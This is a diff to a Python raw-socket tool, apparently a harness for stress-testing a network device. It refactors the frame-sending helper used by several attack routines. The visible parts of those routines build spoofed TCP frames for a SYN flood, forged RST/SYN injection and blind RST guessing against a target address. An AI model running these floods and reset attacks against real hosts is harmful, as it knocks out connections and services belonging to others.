@@ -410,7 +410,7 @@ def tcp_ofo(a):
         for p, (nxt, rnxt) in conns.items():
             frames.append(tcp_frame(a, a.spoof_base, a.tern_ip, p, a.dport, nxt + 1 + 2 * k, rnxt,
                                     TH_ACK, payload=b"X", win=4096))
-    sent = send_frames(a, s, frames, t0, deadline)
+    sent, _ = send_frames(a, s, frames, t0, deadline)
     with open(a.state, "w") as f:
         for p, (nxt, rnxt) in sorted(conns.items()):
             f.write("%d %d %d\n" % (p, nxt, rnxt))
@@ -440,7 +440,7 @@ def tcp_forge(a):
                 frames.append(tcp_frame(a, a.spoof_base, a.tern_ip, p, a.dport, nxt + 0x40000000, 0,
                                         TH_RST, win=0))
     t0 = time.monotonic()
-    sent = send_frames(a, s, frames, t0, t0 + a.seconds)
+    sent, _ = send_frames(a, s, frames, t0, t0 + a.seconds)
     print("attack tcp-forge %s: sent %d frames on %d connections in %.2f s" %
           (a.what or "rst,syn", sent, len(conns), time.monotonic() - t0), flush=True)
 
@@ -456,7 +456,7 @@ def tcp_blind(a):
         frames.append(tcp_frame(a, a.legit_ip, a.tern_ip, a.sport, a.dport, i * step, 0, TH_RST, win=0))
         frames.append(tcp_frame(a, a.legit_ip, a.tern_ip, a.sport, a.dport, self_rand(a), 0, TH_SYN))
     t0 = time.monotonic()
-    sent = send_frames(a, s, frames, t0, t0 + a.seconds)
+    sent, _ = send_frames(a, s, frames, t0, t0 + a.seconds)
     print("attack tcp-blind: sent %d frames in %.2f s" % (sent, time.monotonic() - t0), flush=True)
 
 
@@ -485,16 +485,16 @@ def syn_flood(a):
         frames.append(tcp_frame(a, src, a.tern_ip, rng.randrange(1024, 65536), a.dport,
                                 rng.randrange(1 << 32), 0, TH_SYN, opts=mss))
     t0 = time.monotonic()
-    sent = send_frames(a, s, frames, t0, t0 + a.seconds)
+    sent, _ = send_frames(a, s, frames, t0, t0 + a.seconds)
     dt = time.monotonic() - t0
     print("attack syn-flood: sent %d frames in %.2f s (%.0f/s)" % (sent, dt, sent / dt if dt else 0),
           flush=True)
 
 
 def send_frames(a, s, frames, t0, deadline):
-    """Send frames at --rate (0: as fast as the socket takes them) until the
-    deadline; returns how many went."""
-    sent = 0
+    """Send frames at --rate (0: as fast as the socket takes them), --interval
+    apart, until the deadline; returns (sent, refused by the socket)."""
+    sent = refused = 0
     s.setblocking(True)
     start = time.monotonic()
     for f in frames:
@@ -511,8 +511,11 @@ def send_frames(a, s, frames, t0, deadline):
         except OSError as e:
             if e.errno not in (errno.ENOBUFS, errno.EAGAIN):
                 raise
+            refused += 1
             time.sleep(0.0005)
-    return sent
+        if a.interval:
+            time.sleep(a.interval)
+    return sent, refused
 
 
 def send_all(a, frames):
@@ -520,26 +523,7 @@ def send_all(a, frames):
     s.bind((a.iface, 0))
     s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
     t0 = time.monotonic()
-    deadline = t0 + a.seconds
-    sent = refused = 0
-    for f in frames:
-        now = time.monotonic()
-        if now >= deadline:
-            break
-        if a.rate > 0 and sent % 16 == 0:
-            due = t0 + sent / a.rate
-            if due > now:
-                time.sleep(min(due - now, deadline - now))
-        try:
-            s.send(f)
-            sent += 1
-        except OSError as e:
-            if e.errno not in (errno.ENOBUFS, errno.EAGAIN):
-                raise
-            refused += 1
-            time.sleep(0.0005)
-        if a.interval:
-            time.sleep(a.interval)
+    sent, refused = send_frames(a, s, frames, t0, t0 + a.seconds)
     dt = time.monotonic() - t0
     print("attack %s: sent %d frames in %.2f s (%.0f/s), %d refused by the socket" %
           (a.kind, sent, dt, sent / dt if dt > 0 else 0, refused), flush=True)
